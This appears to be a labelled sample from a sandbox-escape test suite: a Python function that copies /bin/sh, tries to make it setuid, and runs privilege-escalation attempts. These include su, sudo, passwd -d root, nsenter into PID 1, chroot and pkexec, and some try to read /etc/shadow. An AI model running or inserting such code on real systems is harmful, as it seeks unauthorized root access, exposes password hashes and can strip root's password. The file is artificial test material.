# verdict: AC — programs that change the user, and one of its own that says it does
# task: escape
# row: S52 S56
import os
import shutil
import subprocess

ROOT_ONLY = "id -u; head -c 1 /etc/shadow"


def escape(bait):
    reached = []
    shutil.copyfile("/bin/sh", "sh")
    for mode in (0o755, 0o6755):
        try:
            os.chmod("sh", mode)
        except OSError:
            pass
    commands = (
        ["su", "-c", ROOT_ONLY],
        ["sudo", "-n", "sh", "-c", ROOT_ONLY],
        ["./sh", "-p", "-c", ROOT_ONLY],
        ["mount", "-t", "tmpfs", "none", "."],
        ["passwd", "-d", "root"],
        ["newgrp", "root"],
        ["unshare", "-Ur", "true"],
        ["nsenter", "-t", "1", "-a", "true"],
        ["chroot", ".", "/sh"],
        ["pkexec", "true"],
    )
    for command in commands:
        try:
            done = subprocess.run(command, stdin=subprocess.DEVNULL, capture_output=True, timeout=0.3)
        except (OSError, subprocess.TimeoutExpired):
            continue
        if done.returncode == 0 and command[0] != "./sh" or done.stdout.startswith(b"0\n"):
            reached.append(command[0])
    return reached
